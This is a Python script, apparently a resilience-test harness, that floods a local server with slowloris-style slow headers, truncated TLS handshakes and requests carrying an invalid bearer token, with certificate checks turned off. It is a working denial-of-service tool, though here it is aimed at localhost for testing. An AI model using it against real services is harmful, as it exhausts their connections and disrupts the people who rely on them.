"""Many connections that want nothing good: slow heads, half-open TLS, and wrong tokens.

``python attack.py PORT SLOW HALF_OPEN BAD_PER_SECOND``, until it is ended; says when all are there.
"""

import asyncio
import contextlib
import itertools
import ssl
import sys

HELLO = bytes.fromhex("16030100f8010000f40303") + bytes(20)  # the beginning of one, and no more
BAD = b"GET /v1/runs HTTP/1.1\r\nhost: x\r\nauthorization: Bearer no\r\nconnection: close\r\n\r\n"


def credulous() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


CREDULOUS = credulous()  # one for all: to make it costs more than to attack


async def again(work, there: set, number: int) -> None:
    """Do the same again whenever the coordinator ends it."""
    while True:
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            await work(there, number)
        await asyncio.sleep(1.0)


def slow(port: int):
    async def work(there, number):
        _, writer = await asyncio.open_connection("127.0.0.1", port, ssl=CREDULOUS)
        there.add(number)
        writer.write(b"GET /v1/about HTTP/1.1\r\nx: ")
        for _ in itertools.count():
            writer.write(b"a")
            await writer.drain()
            await asyncio.sleep(2.0)

    return work


def half_open(port: int):
    async def work(there, number):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        there.add(number)
        writer.write(HELLO)
        await reader.read()

    return work


async def refused(port: int) -> None:
    with contextlib.suppress(OSError, asyncio.IncompleteReadError):
        reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=CREDULOUS)
        writer.write(BAD)
        await reader.read()
        writer.close()


async def main(port: int, slow_ones: int, half_open_ones: int, per_second: int) -> None:
    there, wanted = set[int](), slow_ones + half_open_ones
    works = [slow(port)] * slow_ones + [half_open(port)] * half_open_ones
    tasks = {asyncio.ensure_future(again(w, there, n)) for n, w in enumerate(works)}
    said = False
    while True:
        if not said and len(there) >= wanted:
            said = True
            print("all are there", flush=True)
        tasks.add(asyncio.ensure_future(refused(port)))
        tasks = {task for task in tasks if not task.done()}
        await asyncio.sleep(1 / per_second)


if __name__ == "__main__":
    asyncio.run(main(*map(int, sys.argv[1:])))
